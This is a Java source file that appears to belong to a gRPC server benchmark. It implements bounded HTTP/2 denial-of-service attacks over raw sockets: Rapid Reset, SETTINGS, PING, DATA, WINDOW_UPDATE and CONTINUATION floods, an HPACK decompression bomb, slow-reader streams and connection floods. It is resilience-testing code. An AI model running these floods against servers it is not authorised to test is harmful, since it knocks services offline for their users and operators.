package dev.grpclean.bench.attack;

import dev.grpclean.bench.BenchService;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.IntFunction;

/**
 * The attacks on a gRPC server's HTTP/2 layer, each bounded by the run's duration and a frame
 * budget, spoken over raw sockets with frames from {@link Frames}. An attack records what the
 * server did ({@link Outcome}); it expects nothing in particular.
 *
 * <p>Every attack goes through the same phases: the active phase (flood, or open and hold),
 * then {@link Run.Height#reached()} while every connection is still as the attack left it (the
 * caller measures the server there), then a short linger with every connection reading, so a
 * GOAWAY sent late, or behind the replies a flood did not read, is still seen. The caller
 * closes the connections afterwards.
 *
 * <p>Thread-safe (stateless); each run is confined to its caller's thread.
 */
public enum Attack {
  RAPID_RESET("rapid-reset", "HEADERS (Echo) then RST_STREAM(CANCEL) at once, up to "
      + fmt(Budget.RESET_PAIRS) + " pairs on one connection") {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      Http2Headers request = Frames.grpcRequest(BenchService.ECHO.getFullMethodName());
      int[] next = {1};
      long before = c.answer.framesSent;
      flood(run, wire, c, 2L * Budget.RESET_PAIRS, Budget.BATCH_FRAMES, max -> {
        for (int i = 0; i < max / 2; i++) {
          c.frames.headers(next[0], request, false).rstStream(next[0], Http2Error.CANCEL);
          next[0] += 2;
        }
        return c.frames.take();
      });
      facts.put("pairsSent", (c.answer.framesSent - before) / 2);
    }

    @Override
    boolean catchesUp() {
      return true;
    }
  },
  SETTINGS_FLOOD("settings-flood", "empty SETTINGS frames, never reading the acks, up to "
      + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.reading(false);
      repeatFlood(run, wire, c, c.frames.settings(new Http2Settings()).take(),
          Budget.FLOOD_FRAMES);
    }
  },
  PING_FLOOD("ping-flood", "PING frames, never reading the acks, up to "
      + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.reading(false);
      repeatFlood(run, wire, c, c.frames.ping(false, 0x5049_4e47_5049_4e47L).take(),
          Budget.FLOOD_FRAMES);
    }
  },
  EMPTY_DATA_FLOOD("empty-data-flood", "one Echo stream, then zero-length DATA frames without "
      + "END_STREAM, up to " + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.send(c.frames.headers(1, echoRequest(), false).take());
      repeatFlood(run, wire, c, c.frames.data(1, new byte[0], false).take(),
          Budget.FLOOD_FRAMES);
    }

    @Override
    boolean catchesUp() {
      return true;
    }
  },
  WINDOW_UPDATE_FLOOD("window-update-flood", "one Echo stream, then WINDOW_UPDATE(+1) on the "
      + "connection and the stream by turns, up to " + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.send(c.frames.headers(1, echoRequest(), false).take());
      repeatFlood(run, wire, c, c.frames.windowUpdate(0, 1).windowUpdate(1, 1).take(),
          Budget.FLOOD_FRAMES);
    }

    @Override
    boolean catchesUp() {
      return true;
    }
  },
  CONTINUATION_LITERAL("continuation-flood", "HEADERS (Echo) without END_HEADERS, then "
      + "CONTINUATION frames of one small literal header each, never ending, up to "
      + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.send(c.frames.headersFragment(1, c.frames.headerBlock(1, echoRequest()), false).take());
      byte[] literal = c.frames.literalBlock(
          new DefaultHttp2Headers().add("x-flood", "a".repeat(16)));
      facts.put("fragmentBytes", literal.length);
      long before = c.answer.framesSent;
      repeatFlood(run, wire, c, c.frames.continuation(1, literal, false).take(),
          Budget.FLOOD_FRAMES);
      facts.put("headerBlockBytesSent", (c.answer.framesSent - before) * literal.length);
    }
  },
  CONTINUATION_EMPTY("continuation-flood-empty", "HEADERS (Echo) without END_HEADERS, then "
      + "zero-length CONTINUATION frames, up to " + fmt(Budget.FLOOD_FRAMES)) {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      c.send(c.frames.headersFragment(1, c.frames.headerBlock(1, echoRequest()), false).take());
      repeatFlood(run, wire, c, c.frames.continuation(1, new byte[0], false).take(),
          Budget.FLOOD_FRAMES);
    }
  },
  HPACK_BOMB("hpack-bomb", "one large header put in the HPACK table, then Echo requests "
      + "referencing it " + fmt(Budget.BOMB_REFERENCES) + " times each (about 12 MiB decoded "
      + "from 4 KiB), up to " + fmt(Budget.BOMB_BLOCKS) + " requests") {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings(), facts);
      long table = c.frames.headerTableSize();
      int valueBytes = (int) Math.min(table - 32 - Budget.BOMB_NAME.length() - Budget.BOMB_ROOM,
          Budget.BOMB_MAX_VALUE);
      if (valueBytes < Budget.BOMB_MIN_VALUE) {
        facts.put("skipped", "the server's HEADER_TABLE_SIZE (" + table + ") leaves no room");
        return;
      }
      String value = "b".repeat(valueBytes);
      // Stream 1 puts the header (and the request's own) in both tables: a normal call.
      c.send(c.frames.headers(1, echoRequest().add(Budget.BOMB_NAME, value), false)
          .data(1, Frames.grpcMessage(new byte[1]), true).take());
      Http2Headers bomb = echoRequest();
      for (int i = 0; i < Budget.BOMB_REFERENCES; i++) {
        bomb.add(Budget.BOMB_NAME, value);
      }
      byte[] block = c.frames.headerBlock(3, bomb);
      // Every field is now indexed, so encoding changes no table: the block can be resent as is.
      if (!Arrays.equals(block, c.frames.headerBlock(3, bomb))) {
        throw new IllegalStateException("the bomb's header block is not stable under HPACK");
      }
      int[] next = {3};
      long before = c.answer.framesSent;
      flood(run, wire, c, Budget.BOMB_BLOCKS, Budget.BOMB_BATCH, max -> {
        for (int i = 0; i < max; i++) {
          c.frames.headerBlockFrames(next[0], block, true);
          next[0] += 2;
        }
        return c.frames.take();
      });
      facts.put("valueBytes", valueBytes);
      facts.put("encodedBlockBytes", block.length);
      facts.put("decodedBytesPerBlock",
          (long) Budget.BOMB_REFERENCES * (Budget.BOMB_NAME.length() + valueBytes + 32));
      facts.put("bombsSent", c.answer.framesSent - before);
    }

    @Override
    boolean catchesUp() {
      return true;
    }
  },
  SLOW_READER("slow-reader", "SETTINGS_INITIAL_WINDOW_SIZE=0, then M Download streams asking "
      + "for 1 MiB messages, never a WINDOW_UPDATE; hold") {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      RawConnection c = handshaken(run, wire, new Http2Settings().initialWindowSize(0), facts);
      Http2Headers request = Frames.grpcRequest(BenchService.DOWNLOAD.getFullMethodName());
      byte[] message = Frames.grpcMessage(BenchService.downloadRequest(
          Budget.SLOW_READER_BYTES_PER_STREAM, Budget.SLOW_READER_MESSAGE_BYTES).bytes());
      for (int i = 0; i < run.streams; i++) {
        int id = 2 * i + 1;
        c.frames.headers(id, request, false).data(id, message, true);
      }
      c.send(c.frames.take());
      facts.put("streams", run.streams);
      facts.put("messageBytes", Budget.SLOW_READER_MESSAGE_BYTES);
      hold(run, wire);
      facts.put("responseHeaders", c.answer.framesReceived.getOrDefault("HEADERS", 0));
      facts.put("dataBytesReceived", c.answer.dataBytes);
    }

    @Override
    long lingerMillis() {
      return 0;
    }
  },
  HALF_OPEN("half-open", "K connections that connect and send nothing; hold") {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      for (int i = 0; i < run.connections; i++) {
        // Reading only to see the close: not even the server's SETTINGS get an ack.
        wire.connect().answering(false);
        wire.poll(0);
      }
      if (wire.pollUntil(wire::allConnected, run.deadlineNanos)) {
        facts.put("connectedMs", wire.elapsedMillis());
      }
      hold(run, wire);
    }

    @Override
    public boolean multiConnection() {
      return true;
    }

    @Override
    long lingerMillis() {
      return 0;
    }
  },
  CONNECTION_FLOOD("connection-flood", "K connections that complete the HTTP/2 preface and "
      + "SETTINGS exchange, then idle; hold") {
    @Override
    void attack(Run run, Wire wire, Map<String, Object> facts) {
      for (int i = 0; i < run.connections; i++) {
        wire.connect().startHandshake(new Http2Settings());
        wire.poll(0);
      }
      if (wire.pollUntil(wire::allConnected, run.deadlineNanos)) {
        facts.put("connectedMs", wire.elapsedMillis());
      }
      if (wire.pollUntil(() -> wire.connections().stream()
          .allMatch(x -> x.handshaken() || x.closed()), run.deadlineNanos)) {
        facts.put("handshakenMs", wire.elapsedMillis());
      }
      facts.put("handshaken",
          wire.connections().stream().filter(RawConnection::handshaken).count());
      hold(run, wire);
    }

    @Override
    public boolean multiConnection() {
      return true;
    }

    @Override
    long lingerMillis() {
      return 0;
    }
  };

  /** The attacks' bounds. */
  static final class Budget {
    static final int RESET_PAIRS = 100_000;
    static final long FLOOD_FRAMES = 1_000_000;
    /** Frames crafted per batch: enough to keep the socket busy, small enough to stop soon. */
    static final int BATCH_FRAMES = 4096;
    static final int BOMB_REFERENCES = 4096;
    static final long BOMB_BLOCKS = 1000;
    static final int BOMB_BATCH = 16;
    static final String BOMB_NAME = "x-bomb";
    /** Table bytes left for the request's own headers, so the bomb never evicts them. */
    static final int BOMB_ROOM = 1024;
    static final int BOMB_MIN_VALUE = 256;
    static final int BOMB_MAX_VALUE = 3 * 1024;
    static final long SLOW_READER_BYTES_PER_STREAM = 1L << 30;
    static final int SLOW_READER_MESSAGE_BYTES = 1 << 20;
    /** A flood whose bytes the server has not taken for this long has made it stop reading. */
    static final long STALL_NANOS = TimeUnit.SECONDS.toNanos(2);
    /** The handshake before an attack, within the attack's duration. */
    static final long HANDSHAKE_NANOS = TimeUnit.SECONDS.toNanos(10);
    static final long LINGER_MILLIS = 1000;
    /** Payload of the catch-up PING ("MARKER"). */
    static final long CATCH_UP_MARKER = 0x4d41_524b_4552L;
    static final long CATCH_UP_NANOS = TimeUnit.SECONDS.toNanos(10);

    private Budget() {}
  }

  /** What an attack is given: the server, its bounds, and the caller's measurement hook. */
  public static final class Run {
    /** Called once, at the attack's height, before any connection is closed on our side. */
    public interface Height {
      void reached() throws Exception;
    }

    final InetSocketAddress server;
    final long durationNanos;
    final int connections;
    final int streams;
    final Height height;
    long deadlineNanos;

    /**
     * {@code connections}: K of the multi-connection attacks; {@code streams}: M of
     * slow-reader.
     */
    public Run(InetSocketAddress server, Duration duration, int connections, int streams,
        Height height) {
      this.server = server;
      this.durationNanos = duration.toNanos();
      this.connections = connections;
      this.streams = streams;
      this.height = height;
    }
  }

  private final String id;
  private final String description;

  Attack(String id, String description) {
    this.id = id;
    this.description = description;
  }

  /** The name on the command line and in reports, e.g. {@code rapid-reset}. */
  public String id() {
    return id;
  }

  public String description() {
    return description;
  }

  /** Whether the attack opens {@code --connections} connections (else one). */
  public boolean multiConnection() {
    return false;
  }

  /** The attack named {@code id}; IllegalArgumentException listing the choices. */
  public static Attack parse(String id) {
    for (Attack a : values()) {
      if (a.id.equalsIgnoreCase(id.trim())) {
        return a;
      }
    }
    StringBuilder names = new StringBuilder();
    for (Attack a : values()) {
      names.append(names.length() == 0 ? "" : ", ").append(a.id);
    }
    throw new IllegalArgumentException(
        "unknown attack '" + id + "' (choose from all, " + names + ")");
  }

  /**
   * Runs the attack against {@code run.server} and closes its connections. Exceptions from the
   * height hook pass through.
   */
  public Outcome run(Run run) throws Exception {
    Map<String, Object> facts = new LinkedHashMap<>();
    try (Wire wire = new Wire(run.server)) {
      run.deadlineNanos = wire.startNanos + run.durationNanos;
      attack(run, wire, facts);
      if (catchesUp()) {
        catchUp(wire, facts);
      }
      run.height.reached();
      long linger = lingerMillis();
      if (linger > 0) {
        for (RawConnection c : wire.connections()) {
          c.reading(true);
        }
        wire.pollUntil(wire::allClosed,
            System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(linger));
      }
      return new Outcome(id, wire.answers(), facts);
    }
  }

  /** The active phase. */
  abstract void attack(Run run, Wire wire, Map<String, Object> facts);

  /**
   * Whether the attack ends with a PING whose ack says the server has worked through every
   * frame sent before it (so the height is measured with the backlog processed). Not for
   * floods that must not read, nor inside an unfinished header block.
   */
  boolean catchesUp() {
    return false;
  }

  /** How long to keep reading after the height; hold attacks read all along. */
  long lingerMillis() {
    return Budget.LINGER_MILLIS;
  }

  // ---------------------------------------------------------------- shared steps

  static Http2Headers echoRequest() {
    return Frames.grpcRequest(BenchService.ECHO.getFullMethodName());
  }

  /** One connection through preface and SETTINGS (bounded; the attack goes on either way). */
  static RawConnection handshaken(Run run, Wire wire, Http2Settings ours,
      Map<String, Object> facts) {
    RawConnection c = wire.connect();
    c.startHandshake(ours);
    wire.pollUntil(() -> c.handshaken() || c.closed(),
        Math.min(run.deadlineNanos, System.nanoTime() + Budget.HANDSHAKE_NANOS));
    facts.put("handshake", c.handshaken() ? "done" : c.closed() ? "closed" : "not acked");
    return c;
  }

  /**
   * Sends batches from {@code source} (asked for at most the given number of frames) as fast
   * as the socket takes them, until the budget is sent, the deadline passes, the connection
   * closes or the server stops taking bytes.
   */
  static void flood(Run run, Wire wire, RawConnection c, long budgetFrames, int batchFrames,
      IntFunction<Frames.Batch> source) {
    long crafted = 0;
    while (!c.closed() && System.nanoTime() < run.deadlineNanos) {
      if (!c.hasPending()) {
        if (crafted >= budgetFrames) {
          return;
        }
        Frames.Batch b = source.apply((int) Math.min(batchFrames, budgetFrames - crafted));
        crafted += b.frames();
        c.send(b);
      }
      wire.poll(c.hasPending() ? 10 : 0);
      if (c.stalledNanos() > Budget.STALL_NANOS) {
        c.answer.stalled();
        return;
      }
    }
  }

  /** {@link #flood} with copies of one crafted unit (one or more frames). */
  static void repeatFlood(Run run, Wire wire, RawConnection c, Frames.Batch unit,
      long budgetFrames) {
    try {
      int per = unit.frames();
      flood(run, wire, c, budgetFrames, Budget.BATCH_FRAMES - Budget.BATCH_FRAMES % per,
          max -> unit.repeat(Math.max(1, max / per)));
    } finally {
      unit.bytes.release();
    }
  }

  /**
   * Sends the catch-up PING on the (single, still open) connection and reads until its ack:
   * records how long the server took to work through the backlog.
   */
  static void catchUp(Wire wire, Map<String, Object> facts) {
    RawConnection c = wire.connections().get(0);
    if (c.closed()) {
      return;
    }
    c.reading(true);
    long sent = System.nanoTime();
    c.send(c.frames.ping(false, Budget.CATCH_UP_MARKER).take());
    boolean acked = wire.pollUntil(
        () -> c.answer.lastPingAck == Budget.CATCH_UP_MARKER || c.closed(),
        sent + Budget.CATCH_UP_NANOS);
    if (c.answer.lastPingAck == Budget.CATCH_UP_MARKER) {
      facts.put("serverCaughtUpMs", TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - sent));
    } else {
      facts.put("serverCaughtUpMs", acked ? "closed first" : "not within "
          + TimeUnit.NANOSECONDS.toSeconds(Budget.CATCH_UP_NANOS) + " s");
    }
  }

  /** Reads until the deadline or until every connection has closed. */
  static void hold(Run run, Wire wire) {
    wire.pollUntil(wire::allClosed, run.deadlineNanos);
  }

  private static String fmt(long n) {
    return String.format(Locale.ROOT, "%,d", n);
  }
}
